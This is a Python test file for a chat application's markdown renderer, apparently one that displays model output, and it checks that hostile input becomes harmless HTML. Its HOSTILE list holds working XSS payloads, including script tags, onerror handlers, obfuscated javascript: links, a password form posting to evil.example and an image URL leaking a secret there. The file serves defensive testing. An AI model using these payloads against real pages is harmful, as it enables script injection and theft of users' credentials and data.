"""Markdown from a model: what it may do, and what it may not."""

import re
import time
from collections.abc import Callable

import pytest

from chat.markdown import MAX_PARSED, render, render_growing

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png?secret=1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](/admin/)",
    "[x](//evil.example)",
    "[x](/runs/01a200c3-2c53-7082-a0e3-1733289683c7/cancel/)",
    "[x](/runs/01a200c3-2c53-7082-a0e3-1733289683c7/?next=//evil.example)",
    "[x](/runs/01a200c3-2c53-7082-a0e3-1733289683c7/..//evil.example)",
    "[x](//runs/01a200c3-2c53-7082-a0e3-1733289683c7/)",
    "[x](/sign-in/secret/)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onclick=alert(1)")',
    '[x](https://a.example" onclick="alert(1))',
    '```"><script>alert(1)</script>\ncode\n```',
    '```js" onclick="alert(1)\ncode\n```',
    "<div hx-get=/logout/ hx-trigger=load>",
    "<a href=https://x.example ping=https://evil.example>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "[a]: javascript:alert(1)\n[a]",
    "`<script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><img src=x onerror=alert(1)>-->",
    "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
    "{{ secret }} {% load admin %}",
    "[x](http://[::1)",
    "\x00\u202ehttps://evil.example",
]
TAG = re.compile(r"<([a-z0-9]+)((?:\s[^>]*)?)>")
HARMLESS = {"href", "rel", "target", "class", "start", "title"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless_html(text: str) -> None:
    for tag, attributes in TAG.findall(render(text)):
        assert tag not in ("script", "img", "svg", "iframe", "style", "form", "input", "base", "math", "div")
        names = set(re.findall(r'([\w:-]+)="', attributes))
        assert names <= HARMLESS
        assert all(re.match("https?:|mailto:", href) for href in re.findall(r'href="([^"]*)"', attributes))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *slanted*", "<strong>bold</strong> and <em>slanted</em>"),
        ("a\nb", "a<br>"),
        ("```python\nx = 1\n```", '<code class="language-python">x = 1'),
        ("1. one\n2. two", "<li>two</li>"),
        ("# Plan\n\n###### Detail", "<h2>Plan</h2>\n<h6>Detail</h6>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>2</td>"),
        ("~~gone~~", "<s>gone</s>"),
        ("see https://example.com/x", '<a href="https://example.com/x"'),
    ],
)
def test_what_people_expect_of_markdown_works(text: str, html: str) -> None:
    assert html in render(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[my bank](https://evil.example/login)", '<span class="host">evil.example</span>'),
        ("[https://bank.example](https://evil.example)", '<span class="host">evil.example</span>'),
        ("[https://bank.example@evil.example](https://bank.example@evil.example)", '<span class="host">evil.example</span>'),
        ("[x](https://bаnk.example)", '<span class="host">xn--bnk-6cd.example</span>'),
        ("![a picture](https://evil.example/p.png)", '>a picture<span class="host">evil.example</span></a>'),
        ("[![badge](https://evil.example/b.png)](https://evil.example)", '>badge<span class="host">evil.example</span></a>'),
    ],
)
def test_a_link_shows_where_it_leads(text: str, shown: str) -> None:
    assert shown in render(text)


@pytest.mark.parametrize(
    "address", ["https:///evil.example", "/admin/", "//evil.example", "https:evil.example", f"https://{'a' * 64}.example"]
)
def test_an_address_without_a_host_to_show_is_no_link(address: str) -> None:
    assert "href" not in render(f"[x]({address})")


@pytest.mark.parametrize("page", ["runs", "workflows", "scheduled"])
def test_what_a_tool_names_of_this_site_is_a_link_to_it(page: str) -> None:
    address = f"/{page}/01a200c3-2c53-7082-a0e3-1733289683c7/"

    assert render(f"See [it]({address}).") == f'<p>See <a href="{address}" rel="noopener noreferrer nofollow">it</a>.</p>\n'


def test_a_bare_address_is_not_repeated() -> None:
    assert "host" not in render("https://example.com/some/page")


def test_a_closing_quote_is_not_part_of_an_address() -> None:
    html = render("“http://a.example/x%20y” and »https://b.example«")

    assert 'href="http://a.example/x%20y"' in html
    assert "</a>” and" in html


def test_every_link_leaves_without_a_trace() -> None:
    html = render("[x](https://example.com)")

    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_a_growing_text_looks_like_the_finished_one() -> None:
    text = "First *part*.\n\nSecond:\n\n```python\na = 1\n\nb = 2\n```\n\nThe end."

    for cut in range(len(text)):
        render_growing(text[:cut])
    assert render_growing(text).split() == render(text).split()


@pytest.mark.parametrize("show", [render, render_growing])
@pytest.mark.parametrize("bad", ["[", "![", "*a_", "> ", "`", "a](b", "<", "- ", "|a", "http://a.b ", "a.com\n", "a@b.co\n", "[]("])
def test_no_text_takes_long(bad: str, show: Callable[[str], str]) -> None:
    begun = time.process_time()

    show(bad * (MAX_PARSED // len(bad)))

    assert time.process_time() - begun < 0.5


def test_a_long_growing_text_ends_as_it_is_and_is_not_kept() -> None:
    kept = render.cache_info().currsize

    html = render_growing("*a*\n\n" + "<b>" * 20_000)

    assert html.startswith("<p><em>a</em></p>")
    assert html.endswith("&lt;b&gt;</pre>")
    assert render.cache_info().currsize == kept


def test_a_text_too_long_to_parse_is_shown_as_it_is() -> None:
    assert render("<b>" * 20_000).startswith("<pre>&lt;b&gt;")
